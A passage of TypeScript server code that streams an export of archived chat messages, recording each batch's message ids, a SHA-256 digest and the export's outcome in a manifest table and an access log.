  const maxMessageBytes = opts.maxMessageBytes ?? DEFAULT_MAX_MESSAGE_BYTES;
  const batchSize = opts.batchSize ?? exportBatchRows(maxMessageBytes);
  // The next batch is read while one is recorded and sent, with as many rows as fit the batch
  // budget beside it: a batch of small messages leaves room for a whole next one, a batch of
  // the largest for none (then the next is read once it has been sent).
  const budget = batchSize * (2 * maxMessageBytes + ROW_OVERHEAD_BYTES);
  const aheadRows = (batch: readonly ArchiveRecord[]) => exportAheadRows(exportBatchBytes(batch), maxMessageBytes, budget);
  // A fixed end makes the file reproducible from its manifest and lets the walk finish while
  // messages keep arriving.
  const until = opts.filters.until !== undefined && opts.filters.until < now ? opts.filters.until : now;
  const filters: ExportFilters = { ...opts.filters, until };
  const query = manifestQuery(filters);
  const formatter = exportFormatter(format, opts.domain);

  const [row] = await sql<ManifestRow[]>`
    INSERT INTO exports (account, format, query, node)
    VALUES (${principal.actor}, ${format}, ${JSON.stringify(query)}::text::jsonb, ${opts.node ?? null})
    RETURNING ${sql.unsafe(MANIFEST_COLUMNS)}`;
  const manifest = toManifest(row!);
  const id = manifest.id;
  try {
    await accessLog.record({ principal, ip, action: 'export', query: { ...query, format }, detail: { exportId: id, phase: 'start' } });
  } catch (err) {
    await sql`UPDATE exports SET status = 'failed', failure = 'error', finished_at = clock_timestamp() WHERE id = ${id}::bigint`.catch(() => {});
    throw new ExportNotRecordedError(id, err);
  }

  let count = 0;
  let bytes = 0;
  const hash = createHash('sha256');
  const ids: string[] = [];
  // The ids committed to export_messages so far; `sealed` once finish() has begun (the producer
  // records no more), `recording` the insert in flight for finish() to wait for.
  const recorded = new MessageIdDigest();
  let sealed = false;
  let recording: Promise<unknown> = Promise.resolve();
  const recordBatch = (batch: readonly ArchiveRecord[]): Promise<void> => {
    const stanzaIds = batch.map((r) => r.message.id);
    const done = sql`
      INSERT INTO export_messages (export_id, ord, stanza_id)
      SELECT ${id}::bigint, ${recorded.count}::bigint + t.ord, t.stanza_id
      FROM unnest(${stanzaIds}::text[]) WITH ORDINALITY AS t(stanza_id, ord)`.then(() => {
      for (const s of stanzaIds) recorded.add(s);
    });
    recording = done.catch(() => {});
    return done;
  };
  const marks = new DeliveryMarks();
  let result: ExportResult | undefined;
  let producerFailed = false;
  let finishing: Promise<ExportStatus> | undefined;
  let settle: (s: ExportStatus) => void = () => {};
  const done = new Promise<ExportStatus>((resolve) => (settle = resolve));

  // `produced` runs ahead of `bytes` by the messages gathered for the next chunk.
  let produced = 0;
  const emit = (chunk: Buffer): Buffer => {
    hash.update(chunk);
    bytes += chunk.length;
    return chunk;
  };

  async function* produce(): AsyncGenerator<Buffer> {
    try {
      if (formatter.head !== '') {
        const head = Buffer.from(formatter.head, 'utf8');
        produced += head.length;
        marks.add(produced, 0);
        yield emit(head);
      }
      // since ≥ until (a window in the future): an empty file, not an error half-way through a 200.
      const empty = filters.since !== undefined && filters.since >= until;
      // Messages are gathered into chunks of up to EXPORT_CHUNK_BYTES (few writes to the socket);
      // a larger message is sent in slices of that size, so no chunk is larger.
      let parts: Buffer[] = [];
      let pending = 0;
      const flush = (): Buffer => {
        const chunk = parts.length === 1 ? parts[0]! : Buffer.concat(parts, pending);
        parts = [];
        pending = 0;
        return emit(chunk);
      };
      for await (const batch of empty ? [] : walkArchive(sql, filters, batchSize, { aheadRows })) {
        // The run has ended (the client went away): nothing more is sent, so nothing more is recorded.
        if (sealed) return;
        // On the record before any of it can leave: a batch whose ids cannot be recorded fails the export unsent.
        await recordBatch(batch);
        for (const r of batch) {
          const message = Buffer.from(formatter.message(r), 'utf8');
          if (ids.length < MAX_LOGGED_MESSAGE_IDS) ids.push(r.message.id);
          if (pending > 0 && pending + message.length > EXPORT_CHUNK_BYTES) yield flush();
          count++;
          produced += message.length;
          marks.add(produced, count);
          if (message.length > EXPORT_CHUNK_BYTES) {
            for (let at = 0; at < message.length; at += EXPORT_CHUNK_BYTES) yield emit(message.subarray(at, at + EXPORT_CHUNK_BYTES));
          } else {
            parts.push(message);
            pending += message.length;
          }
        }
      }
      if (pending > 0) yield flush();
      result = { count, bytes, sha256: hash.digest('hex') };
    } catch (err) {
      producerFailed = true;
      log.error('export: reading the archive failed', { exportId: id, error: String(err) });
      throw err;
    }
  }

  const finish = (delivery: ExportDelivery): Promise<ExportStatus> =>
    (finishing ??= (async (): Promise<ExportStatus> => {
      // No batch is recorded from here on; one being recorded is waited for (its rows are then
      // sealed with the rest, whether or not any of it was sent).
      sealed = true;
      await recording;
      const seal = sealOf(recorded);
      const end = result;
      const complete = delivery.delivered && end !== undefined;
      let status: ExportStatus = complete ? 'complete' : 'failed';
      // The access-log entry before the manifest (which is written either way: it says what the
      // client got): a manifest that no longer says running has its end logged, or logging it
      // failed — which access-log verify then reports, as it relies on this order, until the next
      // start seals it late (sealUnloggedExportEnds).
      try {
        if (complete) {
          await accessLog.record({
            principal, ip, action: 'export', query: { ...query, format }, messageIds: ids, messageCount: end.count,
            detail: { exportId: id, phase: 'complete', count: end.count, sha256: end.sha256, bytes: end.bytes, ...seal },
          }).finally(() => sql`
            UPDATE exports SET status = 'complete', message_count = ${end.count}, sha256 = ${end.sha256}, bytes = ${end.bytes}, finished_at = clock_timestamp()
            WHERE id = ${id}::bigint`);
        } else {
          const failure: ExportFailure = producerFailed || delivery.delivered ? 'error' : delivery.failure;
          const clamp = (n: number) => Math.max(0, Math.min(n, bytes));
          // The manifest: what surely went out. The access log: every message the client may have seen.
          const sentBytes = delivery.delivered ? bytes : clamp(delivery.bytes);
          const sentCount = marks.countWithin(sentBytes);
          const seen = marks.startedWithin(delivery.delivered ? bytes : clamp(Math.max(delivery.maxBytes, delivery.bytes)));
          await accessLog.record({
            principal, ip, action: 'export', query: { ...query, format }, messageIds: ids.slice(0, seen), messageCount: seen,
            detail: { exportId: id, phase: 'failed', failure, count: sentCount, bytes: sentBytes, ...seal },
          }).finally(() => sql`
            UPDATE exports SET status = 'failed', failure = ${failure}, message_count = ${sentCount}, bytes = ${sentBytes}, finished_at = clock_timestamp()
            WHERE id = ${id}::bigint`);
        }
      } catch (err) {
        status = 'failed';
        log.error('export: could not record how the export ended', { exportId: id, error: String(err) });
      }
      settle(status);
      return status;
    })());

  // Bytes, not objects: highWaterMark then counts bytes, so about one chunk is buffered ahead.
  const stream = Readable.from(produce(), { objectMode: false, highWaterMark: EXPORT_CHUNK_BYTES });
  return { id, formatter, manifest, stream, result: () => result, sent: (n) => marks.prune(n), finish, done };
}
